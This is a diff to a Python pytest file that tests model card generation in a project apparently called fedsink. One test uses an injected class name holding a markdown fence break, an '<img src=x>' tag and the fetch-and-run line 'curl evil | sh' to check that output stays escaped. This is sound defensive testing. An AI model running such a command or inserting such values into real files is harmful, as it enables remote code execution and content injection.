@@ -2,10 +2,12 @@
 
 from __future__ import annotations
 
+import sys
 from typing import Any
 
 import pytest
 
+from fedsink.errors import ConfigError
 from fedsink.pages.model_card import model_card
 from fedsink.reporting.output_files import write_json
 from fedsink.server.recorded import RecordedRun
@@ -57,7 +59,13 @@ def test_a_received_name_never_leaves_the_block_of_the_command(begin: Begin) -> 
     hostile = "9\n```\n<img src=x>\n```bash\ncurl evil | sh"
     folder = begin("mode=central")
     run = RecordedRun.of(folder.path)
-    classes = [*run.config["data"]["classes"][:-1], hostile]
-    run.config["data"] = {**run.config["data"], "classes": classes}
+    run.config["run"]["typed"] = [f"data.classes={hostile}"]
     text = model_card(run, run.privacy or {}, RESULT, "mit")
     assert [line for line in text.splitlines() if line.startswith(("<img", "curl"))] == []
+
+
+@pytest.mark.medium
+def test_a_missing_package_is_named(begin: Begin, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setitem(sys.modules, "huggingface_hub", None)
+    with pytest.raises(ConfigError, match="install it with `pip install huggingface-hub`"):
+        card(begin, "mode=central")
